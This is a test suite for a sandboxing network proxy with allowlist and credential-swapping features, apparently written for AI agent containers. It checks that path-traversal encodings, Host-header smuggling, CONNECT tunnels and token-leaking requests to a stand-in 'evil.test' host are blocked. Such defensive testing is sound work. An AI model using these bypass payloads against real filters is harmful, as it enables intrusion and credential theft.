import { readFileSync } from "node:fs"
import * as net from "node:net"
import { Sha256 } from "@aws-crypto/sha256-js"
import { assert, describe, it } from "@effect/vitest"
import { SignatureV4 } from "@smithy/signature-v4"
import { Effect, Schema } from "effect"
import { ConversationId } from "../../src/schema/ConversationId.js"
import { decodeNetworkAllowlist } from "../../src/schema/NetworkAllowlist.js"
import type { RequestLogLine } from "../../src/schema/NetworkLogLine.js"
import { TaskId } from "../../src/schema/TaskId.js"
import { NetworkProxy } from "../../src/services/NetworkProxy.js"
import { linesSoFar, proxyLayer, requestLines, rig } from "./harness.js"
import {
  curl,
  makeTestPki,
  rawTcp,
  rawTls,
  startPlainUpstream,
  startUpstream,
  verifySigV4,
} from "./support.js"

const BlockBody = Schema.parseJson(
  Schema.Struct({
    error: Schema.String,
    host: Schema.String,
    path: Schema.String,
    method: Schema.String,
    message: Schema.String,
    add: Schema.optional(Schema.String),
  }),
)
const blockBody = (text: string) => Schema.decodeUnknownSync(BlockBody)(text)
const EchoBody = Schema.parseJson(
  Schema.Struct({
    method: Schema.String,
    url: Schema.String,
    headers: Schema.Record({ key: Schema.String, value: Schema.Unknown }),
    body: Schema.String,
  }),
)
const echo = (text: string) => Schema.decodeUnknownSync(EchoBody)(text)

const allowlist = `
domains:
  - api.test
  - api.anthropic.com
  - docs.test
  - "*.docs.test"
url_prefixes:
  - host: other.test
    path: /public/*
    methods: [GET]
  - host: api.github.com
    path: /repos/org/app/*
  - host: api.github.com
    path: /user
    methods: [GET]
  - host: api.github.com
    path: /graphql
    methods: [POST]
    graphql:
      queries: [viewer, repository]
      mutations: [addComment]
  - host: example.amazonaws.com
    path: /*
  - host: bucket.s3.amazonaws.com
    path: /*
  - host: down.test
    path: /*
  - host: plain.test
    path: /*
`

const ghReal = "ghp_REALtokenREAL0123456789abcdefABCDEF"
const awsKeyId = "AKIAREALKEYID0000000"
const awsSecret = "realSecret/Key+0123456789abcdefghijKLMN"

const withCredentials = {
  allowlist,
  masked: { GH_TOKEN: { value: ghReal, scopes: ["api.github.com"] } },
  signing: {
    aws: {
      type: "aws-sigv4",
      access_key_id: { name: "AWS_ACCESS_KEY_ID", value: awsKeyId },
      secret_access_key: { name: "AWS_SECRET_ACCESS_KEY", value: awsSecret },
      scopes: ["*.amazonaws.com"],
    },
  },
  extraOverrides: { "down.test": "127.0.0.1:1" },
}

describe("proxy: the allowlist", () => {
  it.live("an allowed HTTPS and HTTP request reach the upstream and are logged", () =>
    Effect.gen(function* () {
      const plainPort = yield* startPlainUpstream
      const r = yield* rig({ allowlist, extraOverrides: { "plain.test": `127.0.0.1:${plainPort}` } })
      const res = yield* curl(r.https("api.test", "/v1/things?limit=2"))
      assert.strictEqual(res.status, 200)
      assert.strictEqual(echo(res.body).url, "/v1/things?limit=2")
      assert.strictEqual(r.upstream.received[0]?.sni, "api.test")
      const plain = yield* curl(r.http("plain.test", "/index.html"))
      assert.strictEqual(plain.status, 200)
      assert.strictEqual(plain.body, "plain GET /index.html")
      const [https, http] = yield* requestLines(r.handle, 2)
      assert.deepInclude(https, {
        action: "allowed",
        method: "GET",
        host: "api.test",
        path: "/v1/things?limit=2",
        status: 200,
        swapped: 0,
      })
      assert.isAbove(https?.bytes ?? 0, 0)
      assert.deepInclude(http, { action: "allowed", host: "plain.test", status: 200 })
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live(
    "answers arrive whole: small and large, with or without a length, HEAD and 204 without a body",
    () =>
      Effect.gen(function* () {
        const big = "x".repeat(300_000)
        const r = yield* rig({
          allowlist,
          respond: (req, res) => {
            if (req.url === "/v1/big") {
              res.writeHead(200, { "content-length": big.length })
              res.end(big)
            } else if (req.url === "/v1/chunked") {
              // No length: streamed in pieces.
              res.writeHead(200, { "content-type": "text/plain" })
              res.write("first,")
              setTimeout(() => res.end("second"), 20)
            } else if (req.url === "/v1/empty") {
              res.writeHead(204)
              res.end()
            } else if (req.method === "HEAD") {
              res.writeHead(200, { "content-length": 1234 })
              res.end()
            } else return false
            return true
          },
        })
        const whole = yield* curl(r.https("api.test", "/v1/big"))
        assert.strictEqual(whole.body.length, big.length)
        assert.strictEqual(whole.body, big)
        const chunked = yield* curl(r.https("api.test", "/v1/chunked"))
        assert.strictEqual(chunked.body, "first,second")
        const empty = yield* curl(r.https("api.test", "/v1/empty"))
        assert.deepStrictEqual([empty.status, empty.body], [204, ""])
        const head = yield* curl(["-I", ...r.https("api.test", "/v1/head")])
        assert.strictEqual(head.status, 200)
        assert.match(head.body, /content-length: 1234/i)
        const lines = yield* requestLines(r.handle, 4)
        assert.deepStrictEqual(
          lines.map((l) => [l.path, l.status, l.bytes]),
          [
            ["/v1/big", 200, big.length],
            ["/v1/chunked", 200, "first,second".length],
            ["/v1/empty", 204, 0],
            ["/v1/head", 200, 0],
          ],
        )
      }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("a host, path or method not in the allowlist gets a 403 naming the lines to add", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      const host = yield* curl(r.https("evil.test", "/steal"))
      const path = yield* curl(r.https("other.test", "/private/x"))
      const method = yield* curl(["-X", "DELETE", ...r.https("other.test", "/public/x")])
      for (const res of [host, path, method]) assert.strictEqual(res.status, 403)
      const h = blockBody(host.body)
      assert.deepInclude(h, {
        error: "blocked_by_network_allowlist",
        host: "evil.test",
        path: "/steal",
        method: "GET",
      })
      assert.strictEqual(h.add, '  - host: "evil.test"\n    path: "/steal"\n    methods: [GET]')
      assert.include(h.message, ".airut/network-allowlist.yaml")
      assert.include(blockBody(path.body).message, "other paths of other.test are")
      const m = blockBody(method.body)
      assert.include(m.message, "DELETE is not allowed")
      assert.include(m.add ?? "", "methods: [DELETE]")
      assert.strictEqual(r.upstream.received.length, 0)
      const lines = yield* requestLines(r.handle, 3)
      assert.deepStrictEqual(
        lines.map((l) => [l.action, l.status, l.reason]),
        [
          ["blocked", 403, "host not allowed"],
          ["blocked", 403, "path not allowed"],
          ["blocked", 403, "method not allowed"],
        ],
      )
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("a GraphQL mutation not listed is refused with the entry to add; a listed query passes", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      const post = (query: string) =>
        curl([
          "-X",
          "POST",
          "-H",
          "content-type: application/json",
          "--data",
          JSON.stringify({ query }),
          ...r.https("api.github.com", "/graphql"),
        ])
      const refused = yield* post(
        'mutation { createIssue(input: {repositoryId: "x", title: "t"}) { issue { id } } }',
      )
      assert.strictEqual(refused.status, 403)
      const body = blockBody(refused.body)
      assert.strictEqual(body.error, "graphql_operation_blocked")
      assert.include(body.add ?? "", 'mutations: ["createIssue"]')
      const allowed = yield* post("query { viewer { login } }")
      assert.strictEqual(allowed.status, 200)
      assert.strictEqual(r.upstream.received.length, 1)
      const [a, b] = yield* requestLines(r.handle, 2)
      assert.deepInclude(a, { action: "blocked", graphql: "mutation/createIssue" })
      assert.deepInclude(b, { action: "allowed", graphql: "query/viewer" })
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("every hostile path form is blocked before it reaches the upstream", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      // other.test allows only /public/*: each of these would escape it if decoded differently.
      for (const path of [
        "/public/%2e%2e/private",
        "/public/%2E%2E/private",
        "/public/%252e%252e/private",
        "/public/..%2fprivate",
        "/public/x%00.txt",
        "/public/..%5cprivate",
        "/public/..;/private",
        "//public/x",
        "/public//x",
      ]) {
        const res = yield* curl(["--path-as-is", ...r.https("other.test", path)])
        assert.strictEqual(res.status, 403, path)
      }
      const port = r.handle.endpoints.https.port
      const proxyCa = readFileSync(r.handle.caCert.hostPath, "utf8")
      const raw = (sni: string, request: string) => rawTls(port, sni, request, proxyCa)
      const backslash = yield* raw(
        "other.test",
        "GET /public/..\\private HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(backslash.status, 403)
      const absolute = yield* raw(
        "api.test",
        "GET https://evil.test/x HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(absolute.status, 403)
      assert.include(absolute.body, "names evil.test")
      const mismatch = yield* raw(
        "api.test",
        "GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(mismatch.status, 403)
      assert.include(mismatch.body, "opened for api.test")
      const curlMismatch = yield* curl(["-H", "Host: evil.test", ...r.https("api.test", "/")])
      assert.strictEqual(curlMismatch.status, 403)
      const twoHosts = yield* raw(
        "api.test",
        "GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(twoHosts.status, 400)
      const mixedEvil = yield* raw(
        "EVIL.Test",
        "GET / HTTP/1.1\r\nHost: Evil.TEST\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(mixedEvil.status, 403)
      assert.include(mixedEvil.body, '"host":"evil.test"')
      const mixedAllowed = yield* raw(
        "API.Test",
        "GET / HTTP/1.1\r\nHost: Api.TEST.\r\nConnection: close\r\n\r\n",
      )
      assert.strictEqual(mixedAllowed.status, 200)
      assert.strictEqual(r.upstream.received.length, 1, "only the allowed mixed-case request arrived")
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("CONNECT and protocol upgrades are refused and logged", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      const connect = yield* rawTcp(
        r.handle.endpoints.http.port,
        "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
      )
      assert.strictEqual(connect.status, 403)
      assert.strictEqual(blockBody(connect.body).error, "connect_not_allowed")
      const tunnel = yield* curl([
        "-p",
        "-x",
        `http://127.0.0.1:${r.handle.endpoints.http.port}`,
        "https://api.test/",
      ])
      assert.notStrictEqual(tunnel.status, 200)
      const upgrade = yield* rawTcp(
        r.handle.endpoints.http.port,
        "GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
      )
      assert.strictEqual(upgrade.status, 403)
      assert.strictEqual(r.upstream.received.length, 0)
      const lines = yield* requestLines(r.handle, 3)
      assert.deepStrictEqual(
        lines.map((l) => [l.method, l.action, l.reason]),
        [
          ["CONNECT", "blocked", "CONNECT refused"],
          ["CONNECT", "blocked", "CONNECT refused"],
          ["GET", "blocked", "upgrade refused"],
        ],
      )
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("upstream names resolve through the configured DNS servers", () =>
    Effect.gen(function* () {
      // The first proxy's own DNS responder (every name → 127.0.0.1) serves as the resolver.
      const first = yield* rig({ allowlist })
      const proxy = yield* NetworkProxy
      const second = yield* proxy.start({
        taskId: TaskId.make("0123456789ac"),
        conversationId: ConversationId.make("0123abce"),
        allowlist: yield* decodeNetworkAllowlist("domains: [api.test]\n"),
        maskedSecrets: {},
        signingCredentials: {},
        upstreamOverrides: { "api.test": `upstream-by-name.test:${first.upstream.port}` },
        upstreamCaPem: first.pki.caPem,
        upstreamDns: [`127.0.0.1:${first.handle.endpoints.dns.port}`],
      })
      const port = second.endpoints.https.port
      const res = yield* curl([
        "--resolve",
        `api.test:${port}:127.0.0.1`,
        "--cacert",
        second.caCert.hostPath,
        `https://api.test:${port}/via-dns`,
      ])
      assert.strictEqual(res.status, 200)
      assert.strictEqual(echo(res.body).url, "/via-dns")
      const dns = (yield* linesSoFar(first.handle)).filter((l) => l.kind === "dns")
      assert.deepInclude(
        dns.map((l) => (l.kind === "dns" ? l.name : "")),
        "upstream-by-name.test",
      )
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("an unreachable upstream gets a 502 and an error line", () =>
    Effect.gen(function* () {
      const r = yield* rig(withCredentials)
      const res = yield* curl(r.https("down.test", "/x"))
      assert.strictEqual(res.status, 502)
      assert.strictEqual(blockBody(res.body).error, "upstream_unreachable")
      const [line] = yield* requestLines(r.handle, 1)
      assert.deepInclude(line, { action: "error", status: 502 })
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live(
    "upstream certificates are verified: an untrusted CA or a name the certificate lacks gets a 502",
    () =>
      Effect.gen(function* () {
        const strangerPki = yield* makeTestPki(["evil.docs.test"])
        const stranger = yield* startUpstream(strangerPki)
        const r = yield* rig({
          allowlist,
          extraOverrides: (port) => ({
            "evil.docs.test": `127.0.0.1:${stranger.port}`,
            // The trusted test upstream, whose certificate does not name this host.
            "unnamed.docs.test": `127.0.0.1:${port}`,
          }),
        })
        for (const host of ["evil.docs.test", "unnamed.docs.test"]) {
          const res = yield* curl(r.https(host, "/x"))
          assert.strictEqual(res.status, 502, host)
          assert.strictEqual(blockBody(res.body).error, "upstream_unreachable")
        }
        assert.strictEqual(stranger.received.length, 0)
        assert.strictEqual(r.upstream.received.length, 0)
        // The trusted upstream under a name it has still works.
        assert.strictEqual((yield* curl(r.https("sub.docs.test", "/ok"))).status, 200)
      }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("an answer Node cannot relay (status 000) gets a 502, and the proxy keeps serving", () =>
    Effect.gen(function* () {
      const zero = yield* Effect.acquireRelease(
        Effect.async<net.Server>((resume) => {
          const server = net.createServer((socket) => {
            socket.once("data", () => socket.end("HTTP/1.1 000 Zero\r\ncontent-length: 0\r\n\r\n"))
          })
          server.listen(0, "127.0.0.1", () => resume(Effect.succeed(server)))
        }),
        (server) => Effect.sync(() => server.close()),
      )
      const address = zero.address()
      const port = typeof address === "object" && address !== null ? address.port : 0
      const r = yield* rig({ allowlist, extraOverrides: { "plain.test": `127.0.0.1:${port}` } })
      const res = yield* curl(r.http("plain.test", "/x"))
      assert.strictEqual(res.status, 502)
      assert.strictEqual(blockBody(res.body).error, "upstream_unreachable")
      const after = yield* curl(r.https("api.test", "/still"))
      assert.strictEqual(after.status, 200)
      const [line] = yield* requestLines(r.handle, 1)
      assert.deepInclude(line, { action: "error", status: 502, host: "plain.test" })
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )
})

describe("proxy: credentials", () => {
  it.live(
    "a surrogate arrives in scope as the real value, elsewhere unchanged; foreign ones are stripped",
    () =>
      Effect.gen(function* () {
        const r = yield* rig(withCredentials)
        const surrogate = r.handle.env.GH_TOKEN ?? ""
        assert.match(surrogate, /^ghp_[A-Za-z0-9]+$/)
        assert.strictEqual(surrogate.length, ghReal.length)
        assert.notStrictEqual(surrogate, ghReal)
        const bearer = ["-H", `Authorization: Bearer ${surrogate}`]
        const inScope = yield* curl([...bearer, ...r.https("api.github.com", "/user")])
        assert.strictEqual(echo(inScope.body).headers.authorization, `Bearer ${ghReal}`)
        const outOfScope = yield* curl([...bearer, ...r.https("api.test", "/collect")])
        assert.strictEqual(echo(outOfScope.body).headers.authorization, `Bearer ${surrogate}`)
        const foreign = yield* curl([
          "-H",
          "Authorization: Bearer ghp_agentsOwnTokenXXXXXXXXXXXXXXXXXXXXXX",
          ...r.https("api.github.com", "/user"),
        ])
        assert.isUndefined(echo(foreign.body).headers.authorization)
        const basic = yield* curl([
          "-u",
          `x-access-token:${surrogate}`,
          ...r.https("api.github.com", "/repos/org/app/info/refs"),
        ])
        const sent = String(echo(basic.body).headers.authorization)
        assert.strictEqual(
          Buffer.from(sent.replace(/^Basic /, ""), "base64").toString("utf8"),
          `x-access-token:${ghReal}`,
        )
        const lines = yield* requestLines(r.handle, 4)
        assert.deepStrictEqual(
          lines.map((l) => [l.host, l.swapped, l.stripped ?? 0]),
          [
            ["api.github.com", 1, 0],
            ["api.test", 0, 0],
            ["api.github.com", 0, 1],
            ["api.github.com", 1, 0],
          ],
        )
      }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("a request signed with the surrogate AWS key arrives signed with the real key", () =>
    Effect.gen(function* () {
      const r = yield* rig(withCredentials)
      const keyId = r.handle.env.AWS_ACCESS_KEY_ID ?? ""
      const secret = r.handle.env.AWS_SECRET_ACCESS_KEY ?? ""
      assert.match(keyId, /^AKIA[A-Z0-9]{16}$/)
      // Real curl signs with the surrogate pair, as a tool in the container would.
      const signed = yield* curl([
        "--aws-sigv4",
        "aws:amz:eu-north-1:execute-api",
        "--user",
        `${keyId}:${secret}`,
        "-X",
        "POST",
        "--data",
        '{"hello":"world"}',
        ...r.https("example.amazonaws.com", "/prod/items?b=2&a=1"),
      ])
      assert.strictEqual(signed.status, 200)
      const received = r.upstream.received[0]
      if (received === undefined) return assert.fail("nothing arrived")
      assert.isTrue(verifySigV4(received, awsKeyId, awsSecret), "signed with the real key")
      assert.isFalse(verifySigV4(received, keyId, secret))

      // A presigned S3 URL made by the AWS SDK's signer with the surrogate pair.
      const url = yield* Effect.promise(() =>
        new SignatureV4({
          service: "s3",
          region: "eu-north-1",
          credentials: { accessKeyId: keyId, secretAccessKey: secret },
          sha256: Sha256,
          uriEscapePath: false,
        }).presign(
          {
            method: "GET",
            protocol: "https:",
            hostname: `bucket.s3.amazonaws.com:${r.handle.endpoints.https.port}`,
            path: "/reports/2026.csv",
            query: { "response-content-type": "text/csv" },
            headers: {
              host: `bucket.s3.amazonaws.com:${r.handle.endpoints.https.port}`,
              "x-amz-content-sha256": "UNSIGNED-PAYLOAD",
            },
          },
          { expiresIn: 600, unsignableHeaders: new Set(["x-amz-content-sha256"]) },
        ),
      )
      const query = Object.entries(url.query ?? {})
        .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
        .join("&")
      const presigned = yield* curl(r.https("bucket.s3.amazonaws.com", `/reports/2026.csv?${query}`))
      assert.strictEqual(presigned.status, 200)
      const got = r.upstream.received[1]
      if (got === undefined) return assert.fail("presigned request did not arrive")
      assert.include(got.url, `X-Amz-Credential=${awsKeyId}`)
      assert.isTrue(verifySigV4(got, awsKeyId, awsSecret), "presigned with the real key")
      const lines = yield* requestLines(r.handle, 2)
      assert.deepStrictEqual(
        lines.map((l) => l.swapped),
        [1, 1],
      )
      // The log shows the URL the agent sent (surrogate credential), never the re-signed one.
      assert.include(lines[1]?.path ?? "", keyId)
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("no log line ever holds a real secret", () =>
    Effect.gen(function* () {
      const r = yield* rig(withCredentials)
      const surrogate = r.handle.env.GH_TOKEN ?? ""
      yield* curl(["-H", `Authorization: Bearer ${surrogate}`, ...r.https("api.github.com", "/user")])
      yield* curl(["-H", `Authorization: Bearer ${surrogate}`, ...r.https("evil.test", `/?t=${surrogate}`)])
      yield* curl(["-u", `u:${surrogate}`, ...r.https("api.github.com", "/repos/org/app/x")])
      yield* curl([
        "--aws-sigv4",
        "aws:amz:eu-north-1:s3",
        "--user",
        `${r.handle.env.AWS_ACCESS_KEY_ID}:${r.handle.env.AWS_SECRET_ACCESS_KEY}`,
        ...r.https("bucket.s3.amazonaws.com", "/k"),
      ])
      const lines = yield* linesSoFar(r.handle)
      assert.isAtLeast(lines.filter((l) => l.kind === "request").length, 4)
      const text = JSON.stringify(lines)
      for (const secret of [ghReal, awsKeyId, awsSecret, Buffer.from(`u:${ghReal}`).toString("base64")]) {
        assert.notInclude(text, secret)
      }
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )
})

describe("proxy: Anthropic server tools", () => {
  it.live("web_fetch and web_search domains are trimmed to what the allowlist opens", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      const request = {
        model: "claude-test",
        max_tokens: 10,
        messages: [{ role: "user", content: "hi" }],
        tools: [
          {
            type: "web_fetch_20250910",
            name: "web_fetch",
            allowed_domains: ["docs.test", "evil.test", "api.test"],
          },
          { type: "web_search_20250305", name: "web_search" },
        ],
      }
      const res = yield* curl([
        "-X",
        "POST",
        "-H",
        "content-type: application/json",
        "--data",
        JSON.stringify(request),
        ...r.https("api.anthropic.com", "/v1/messages?beta=true"),
      ])
      assert.strictEqual(res.status, 200)
      const sent: unknown = JSON.parse(r.upstream.received[0]?.body ?? "{}")
      assert.deepStrictEqual(sent, {
        ...request,
        tools: [
          // api.test is allowed, but not its subdomains, which allowed_domains would include.
          { type: "web_fetch_20250910", name: "web_fetch", allowed_domains: ["docs.test"] },
          { type: "web_search_20250305", name: "web_search", allowed_domains: [] },
        ],
      })
      const [line] = yield* requestLines(r.handle, 1)
      assert.include(line?.toolDomains ?? "", "dropped evil.test api.test")
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )

  it.live("Claude Code's other calls to api.anthropic.com pass untouched", () =>
    Effect.gen(function* () {
      const r = yield* rig({ allowlist })
      for (const path of [
        "/api/hello",
        "/api/claude_code/settings",
        "/api/claude_code/policy_limits",
        "/api/claude_cli/bootstrap",
      ]) {
        const res = yield* curl(r.https("api.anthropic.com", path))
        assert.strictEqual(res.status, 200, path)
      }
      const batch = yield* curl([
        "-X",
        "POST",
        "--data",
        '{"events":[]}',
        ...r.https("api.anthropic.com", "/api/event_logging/v2/batch"),
      ])
      assert.strictEqual(batch.status, 200)
      assert.strictEqual(r.upstream.received[4]?.body, '{"events":[]}')
      const lines: ReadonlyArray<RequestLogLine> = yield* requestLines(r.handle, 5)
      assert.isTrue(lines.every((l) => l.action === "allowed" && l.toolDomains === undefined))
    }).pipe(Effect.scoped, Effect.provide(proxyLayer())),
  )
})
